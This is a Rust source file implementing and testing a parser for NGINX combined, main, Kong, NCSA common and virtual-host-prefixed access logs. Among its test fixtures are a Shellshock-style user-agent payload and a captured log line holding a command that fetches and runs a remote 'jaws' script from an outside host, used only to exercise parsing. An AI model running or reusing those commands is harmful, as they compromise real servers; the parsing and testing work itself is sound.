//! NGINX `combined`, the format every CLF-derived access log extends:
//!
//! ```text
//! $remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"
//! ```
//!
//! Also read here, because they only add to it: the packaged `main` format (one more quoted
//! `"$http_x_forwarded_for"`, which no record field holds), Kong's proxy log (one more
//! `kong_request_id: "$kong_request_id"`), the NCSA common format that stops after the byte count
//! (Apache, whose `-` byte count means zero bytes and is kept as unset), and a virtual-host prefix
//! (`$host:$server_port ` before the address, Apache's `vhost_combined`).
//!
//! The ingress-nginx `upstreaminfo` line and Traefik's CLF line start with the same fields and
//! share [`read_clf_fields`]; this parser refuses their longer tails, and detection tries them
//! first.

use std::borrow::Cow;
use std::net::IpAddr;

use crate::format::Malformed;
use crate::format::tokens::{
    Cursor, RequestLine, parse_status, parse_u64, split_request, strip_port, text,
};
use crate::record::Record;
use crate::time::TimeCache;

/// How a CLF-derived format writes the fields [`read_clf_fields`] reads.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Dialect {
    /// nginx: quoted fields carry `"` and `\` escaped (`\x22`), the status is always a number.
    Nginx,
    /// Traefik: quoted fields hold the text raw (a backslash is an ordinary byte), and `-`
    /// stands for a status or size Traefik did not know.
    Traefik,
}

/// Reads the fields that follow `$remote_addr` in every CLF-derived format, up to and including
/// the byte count: `- $remote_user [$time_local] "$request" $status $body_bytes_sent`, into
/// `record` (filled in place: a record is a few hundred bytes, and this is the hot path).
pub(super) fn read_clf_fields<'a>(
    cursor: &mut Cursor<'a>,
    clock: &mut TimeCache,
    dialect: Dialect,
    record: &mut Record<'a>,
) -> Result<(), Malformed> {
    // nginx and Traefik write a literal `-` here (Apache's identd field, never looked up).
    if cursor.word() != Some("-") {
        return Err(Malformed::new("expected `-` after the client address"));
    }
    // `$remote_user` is not quoted and nginx does not escape spaces, so a Basic-auth name may
    // hold them: the field runs up to the ` [` that opens the time.
    let remote_user = cursor
        .text_before(b'[')
        .ok_or(Malformed::new("missing remote user or time"))?;
    let time = cursor
        .bracketed()
        .ok_or(Malformed::new("unterminated [time]"))?;
    let time_us = clock.clf(time).ok_or(Malformed::new("bad time"))?;
    let request = match dialect {
        Dialect::Nginx => cursor.quoted(),
        Dialect::Traefik => cursor.quoted_raw(),
    }
    .ok_or(Malformed::new("missing or unterminated request line"))?;
    let status_text = cursor.word().ok_or(Malformed::new("missing status"))?;
    let status = match parse_status(status_text) {
        Some(status) => Some(status),
        None if dialect == Dialect::Traefik && status_text == "-" => None,
        None => return Err(Malformed::new("bad status")),
    };
    let bytes_text = cursor.word().ok_or(Malformed::new("missing byte count"))?;
    let bytes_sent = match bytes_text {
        "-" => None,
        digits => Some(parse_u64(digits).ok_or(Malformed::new("bad byte count"))?),
    };
    let request_line = match (dialect, request) {
        // Traefik's spelling of "no request line" (each of its three parts unknown).
        (Dialect::Traefik, "- - -") => RequestLine::default(),
        _ => split_request(request),
    };
    record.time_us = Some(time_us);
    record.remote_user = text(remote_user);
    record.method = request_line.method.map(Cow::Borrowed);
    record.path = request_line.path.map(Cow::Borrowed);
    record.query = request_line.query.map(Cow::Borrowed);
    record.protocol = request_line.protocol.map(Cow::Borrowed);
    record.status = status;
    record.bytes_sent = bytes_sent;
    Ok(())
}

/// A `"..."` field with nginx escaping; `reason` says which field was missing or unterminated.
pub(super) fn quoted_field<'a>(
    cursor: &mut Cursor<'a>,
    reason: &'static str,
) -> Result<&'a str, Malformed> {
    cursor.quoted().ok_or(Malformed::new(reason))
}

/// Parses one `combined` (or `main`, Kong, common, virtual-host-prefixed) line.
pub(crate) fn parse<'a>(line: &'a str, clock: &mut TimeCache) -> Result<Record<'a>, Malformed> {
    let mut cursor = Cursor::new(line);
    let first = cursor.word().ok_or(Malformed::new("empty line"))?;
    let (host, client_ip) = match client_address(first) {
        Some(address) => (None, address),
        None => {
            // Not an address: either a virtual-host prefix, with the address next, or not this
            // format. Reading the prefix as the address would shift every field after it.
            let address = cursor
                .word()
                .filter(|_| looks_like_host(first))
                .and_then(client_address)
                .ok_or(Malformed::new("client address is not an IP address"))?;
            (text(strip_port(first)), address)
        }
    };
    let mut record = Record {
        client_ip,
        host,
        ..Record::default()
    };
    read_clf_fields(&mut cursor, clock, Dialect::Nginx, &mut record)?;
    if cursor.is_done() {
        // The NCSA common format ends here.
        return Ok(record);
    }
    record.referer = text(quoted_field(
        &mut cursor,
        "missing or unterminated referer",
    )?);
    record.user_agent = text(quoted_field(
        &mut cursor,
        "missing or unterminated user agent",
    )?);
    if cursor.literal("kong_request_id:").is_some() {
        record.request_id = text(quoted_field(
            &mut cursor,
            "missing or unterminated kong_request_id",
        )?);
    } else if !cursor.is_done() {
        // `main`'s `"$http_x_forwarded_for"`: checked for shape, but no record field holds it
        // (the client address is `$remote_addr`, already realip-rewritten when so configured).
        quoted_field(&mut cursor, "unexpected fields after the user agent")?;
    }
    if !cursor.is_done() {
        return Err(Malformed::new("unexpected fields after the user agent"));
    }
    Ok(record)
}

/// `$remote_addr`: an IP address, or `unix:` for a connection over a Unix socket (`Some(None)`:
/// a valid field that names no address). `None` when it is neither.
fn client_address(text: &str) -> Option<Option<IpAddr>> {
    if text == "unix:" {
        return Some(None);
    }
    text.parse().ok().map(Some)
}

/// Whether a word may be a `$host` or `$host:$server_port` prefix: host-name characters only.
fn looks_like_host(text: &str) -> bool {
    !text.is_empty()
        && text.bytes().all(|b| {
            b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_' | b':' | b'[' | b']')
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::format::tokens::mangled;
    use crate::record::Text;

    /// Real lines: elastic/integrations `nginx` access test logs (`test-access.log`,
    /// `test-test-with-host.log`).
    const COMBINED: &str = r#"67.43.156.13 - - [25/Oct/2016:14:49:33 +0200] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_12_0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/54.0.2840.59 Safari/537.36""#;
    const VHOST_UNIX: &str =
        r#"example.com:80 unix: - - [26/Feb/2019:15:39:42 +0100] "hello" 400 173 "-" "-""#;
    const VHOST_EMPTY_REQUEST: &str =
        r#"67.43.156.15:80 127.0.0.1 - - [12/Apr/2018:09:48:40 +0200] "" 400 0 "-" "-""#;
    const MAIN: &str = r#"172.17.0.1 - - [29/May/2017:19:02:48 +0000] "GET /stringpatch HTTP/1.1" 404 612 "-" "Mozilla/5.0 (Windows NT 6.1; rv:15.0) Gecko/20120716 Firefox/15.0a2" "-""#;
    /// Kong 3.x `kong_log_format`, constructed from `kong/templates/nginx_kong.lua`.
    const KONG: &str = r#"10.0.0.7 - - [12/Nov/2025:10:00:01 +0000] "GET /orders/1 HTTP/1.1" 200 512 "-" "curl/8.4.0" kong_request_id: "5c1fd0a6a2b04b4a6a5d3c6f3b6d2e11""#;
    /// NCSA common, the Apache documentation's example line.
    const COMMON: &str =
        r#"127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326"#;
    /// Apache logs a zero-byte body as `-` (elastic/examples `apache_logs`), with an IPv6 client.
    const APACHE_NO_BODY: &str = r#"2001:db8::1 - - [12/Nov/2025:10:00:01 +0000] "GET /robots.txt HTTP/1.1" 200 - "-" "Mozilla/5.0 (compatible; Googlebot/2.1)""#;

    fn borrowed(text: &str) -> Option<Text<'_>> {
        Some(Cow::Borrowed(text))
    }

    fn parse_one(line: &str) -> Result<Record<'_>, Malformed> {
        parse(line, &mut TimeCache::new())
    }

    #[test]
    fn a_combined_line_has_every_field() {
        assert_eq!(
            parse_one(COMBINED),
            Ok(Record {
                time_us: Some(1_477_399_773_000_000),
                client_ip: Some("67.43.156.13".parse().unwrap()),
                method: borrowed("GET"),
                path: borrowed("/"),
                protocol: borrowed("HTTP/1.1"),
                status: Some(200),
                bytes_sent: Some(612),
                user_agent: borrowed(
                    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_12_0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/54.0.2840.59 Safari/537.36"
                ),
                ..Record::default()
            })
        );
    }

    #[test]
    fn a_vhost_prefix_is_the_host_and_unix_is_no_address() {
        assert_eq!(
            parse_one(VHOST_UNIX),
            Ok(Record {
                time_us: Some(1_551_191_982_000_000),
                client_ip: None,
                method: borrowed("hello"),
                status: Some(400),
                bytes_sent: Some(173),
                host: borrowed("example.com"),
                ..Record::default()
            })
        );
    }

    #[test]
    fn a_vhost_prefix_with_an_address_and_an_empty_request() {
        assert_eq!(
            parse_one(VHOST_EMPTY_REQUEST),
            Ok(Record {
                time_us: Some(1_523_519_320_000_000),
                client_ip: Some("127.0.0.1".parse().unwrap()),
                status: Some(400),
                bytes_sent: Some(0),
                host: borrowed("67.43.156.15"),
                ..Record::default()
            })
        );
    }

    #[test]
    fn main_adds_a_forwarded_for_field_that_is_not_kept() {
        assert_eq!(
            parse_one(MAIN),
            Ok(Record {
                time_us: Some(1_496_084_568_000_000),
                client_ip: Some("172.17.0.1".parse().unwrap()),
                method: borrowed("GET"),
                path: borrowed("/stringpatch"),
                protocol: borrowed("HTTP/1.1"),
                status: Some(404),
                bytes_sent: Some(612),
                user_agent: borrowed(
                    "Mozilla/5.0 (Windows NT 6.1; rv:15.0) Gecko/20120716 Firefox/15.0a2"
                ),
                ..Record::default()
            })
        );
    }

    #[test]
    fn kong_adds_its_request_id() {
        assert_eq!(
            parse_one(KONG),
            Ok(Record {
                time_us: Some(1_762_941_601_000_000),
                client_ip: Some("10.0.0.7".parse().unwrap()),
                method: borrowed("GET"),
                path: borrowed("/orders/1"),
                protocol: borrowed("HTTP/1.1"),
                status: Some(200),
                bytes_sent: Some(512),
                user_agent: borrowed("curl/8.4.0"),
                request_id: borrowed("5c1fd0a6a2b04b4a6a5d3c6f3b6d2e11"),
                ..Record::default()
            })
        );
    }

    #[test]
    fn the_common_format_stops_after_the_byte_count() {
        assert_eq!(
            parse_one(COMMON),
            Ok(Record {
                time_us: Some(971_211_336_000_000),
                client_ip: Some("127.0.0.1".parse().unwrap()),
                remote_user: borrowed("frank"),
                method: borrowed("GET"),
                path: borrowed("/apache_pb.gif"),
                protocol: borrowed("HTTP/1.0"),
                status: Some(200),
                bytes_sent: Some(2326),
                ..Record::default()
            })
        );
    }

    #[test]
    fn a_dash_byte_count_is_unset() {
        let record = parse_one(APACHE_NO_BODY).unwrap();
        assert_eq!(record.bytes_sent, None);
        assert_eq!(record.status, Some(200));
        assert_eq!(record.client_ip, Some("2001:db8::1".parse().unwrap()));
        assert_eq!(
            record.user_agent,
            borrowed("Mozilla/5.0 (compatible; Googlebot/2.1)")
        );
    }

    #[test]
    fn escaped_quotes_in_a_user_agent_stay_as_logged() {
        let line = COMBINED.replacen(
            r#""Mozilla/5.0 (Macintosh; Intel Mac OS X 10_12_0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/54.0.2840.59 Safari/537.36""#,
            r#""() { :; }; echo \x22pwned\x22""#,
            1,
        );
        let record = parse_one(&line).unwrap();
        assert_eq!(
            record.user_agent,
            borrowed(r"() { :; }; echo \x22pwned\x22")
        );
    }

    #[test]
    fn a_hostname_in_place_of_the_address_never_shifts_fields() {
        // `localhost` where the address belongs, after an address: refused, not read as a user.
        let line = r#"67.43.156.15 localhost - - [29/May/2017:19:02:48 +0000] "GET /test2 HTTP/1.1" 200 612 "-" "Mozilla/5.0 (Windows NT 6.1; rv:15.0) Gecko/20120716 Firefox/15.0a2" "-""#;
        assert_eq!(
            parse_one(line),
            Err(Malformed::new("expected `-` after the client address"))
        );
        // A host prefix followed by something that is not an address: refused.
        let line = r#"example.com localhost, localhost - - [29/May/2017:19:02:48 +0000] "GET /test2 HTTP/1.1" 200 612 "-" "-" "-""#;
        assert_eq!(
            parse_one(line),
            Err(Malformed::new("client address is not an IP address"))
        );
    }

    #[test]
    fn longer_formats_are_refused() {
        let upstreaminfo = r#"192.168.64.1 - - [07/Feb/2020:11:48:51 +0000] "POST /products HTTP/1.1" 200 59 "-" "curl/7.54.0" 89 0.001 [default-web-8080] [] 172.17.0.5:8080 59 0.000 200 529a007902362a5f51385a5fa7049884"#;
        let traefik = r#"172.17.0.1 - - [08/Dec/2021:13:59:39 +0000] "GET /cgi.cgi/ HTTP/1.1" 200 352 "-" "Nikto" 240 "test@docker" "http://172.17.0.3:80" 0ms"#;
        let main_and_more = format!("{MAIN} \"extra\"");
        for line in [upstreaminfo, traefik, &main_and_more] {
            assert_eq!(
                parse_one(line),
                Err(Malformed::new("unexpected fields after the user agent")),
                "{line}"
            );
        }
    }

    #[test]
    fn other_formats_are_refused() {
        for line in [
            r#"10.0.1.2:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 {1wt.eu} {} "GET /index.html HTTP/1.1""#,
            r#"Feb  6 12:14:14 localhost haproxy[14389]: 10.0.1.2:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 {1wt.eu} {} "GET /index.html HTTP/1.1""#,
            r#"http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri""#,
            r#"[2019-04-11T00:31:55.439Z] "GET /elastic HTTP/1.1" 404 NR 0 0 0 - "172.17.0.3" "curl/7.59.0" "58436667-bf70-4fd0-9fe9-cdadadecfd55" "192.168.99.107:30901" "-""#,
            r#"ACCESS [2024-04-25T17:51:55.294Z] "GET /backend/ HTTP/1.1" 200 - 0 141 0 0 "192.168.0.9" "curl/8.4.0" "b7ba9b4c-f4b7-47c2-9718-c23aa1465f49" "localhost:9001" "192.168.96.113:80""#,
            r#"{"time": "2020-02-07T11:48:51+00:00", "remote_addr": "192.168.64.1", "status": 200}"#,
        ] {
            assert!(parse_one(line).is_err(), "{line}");
        }
    }

    #[test]
    fn truncated_lines_are_refused() {
        for cut in [
            "67.43.156.13",
            "67.43.156.13 - -",
            "67.43.156.13 - - [25/Oct/2016:14:49:33 +0200",
            r#"67.43.156.13 - - [25/Oct/2016:14:49:33 +0200] "GET / HTTP/1.1" 200"#,
            r#"67.43.156.13 - - [25/Oct/2016:14:49:33 +0200] "GET / HTTP/1.1" 200 612 "-""#,
            r#"67.43.156.13 - - [25/Oct/2016:14:49:33 +0200] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0 (Macintosh;"#,
        ] {
            assert!(parse_one(cut).is_err(), "{cut}");
        }
    }

    #[test]
    fn an_unterminated_quote_is_refused() {
        let line = r#"67.43.156.13 - - [25/Oct/2016:14:49:33 +0200] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0 \""#;
        assert_eq!(
            parse_one(line),
            Err(Malformed::new("missing or unterminated user agent"))
        );
    }

    #[test]
    fn a_bad_month_is_refused() {
        let line = COMBINED.replacen("/Oct/", "/Okt/", 1);
        assert_eq!(parse_one(&line), Err(Malformed::new("bad time")));
    }

    #[test]
    fn a_bad_client_address_is_refused() {
        let line = COMBINED.replacen("67.43.156.13", "67.43.156", 1);
        assert_eq!(
            parse_one(&line),
            Err(Malformed::new("client address is not an IP address"))
        );
    }

    #[test]
    fn a_dash_status_is_refused() {
        let line = COMBINED.replacen(" 200 612 ", " - 612 ", 1);
        assert_eq!(parse_one(&line), Err(Malformed::new("bad status")));
    }

    #[test]
    fn never_panics_on_cut_or_mangled_lines() {
        let samples = [
            COMBINED,
            VHOST_UNIX,
            VHOST_EMPTY_REQUEST,
            MAIN,
            KONG,
            COMMON,
            APACHE_NO_BODY,
        ];
        let mut clock = TimeCache::new();
        for line in samples {
            assert!(parse(line, &mut clock).is_ok(), "{line}");
        }
        for line in mangled(&samples) {
            let _ = parse(&line, &mut clock);
        }
    }
}
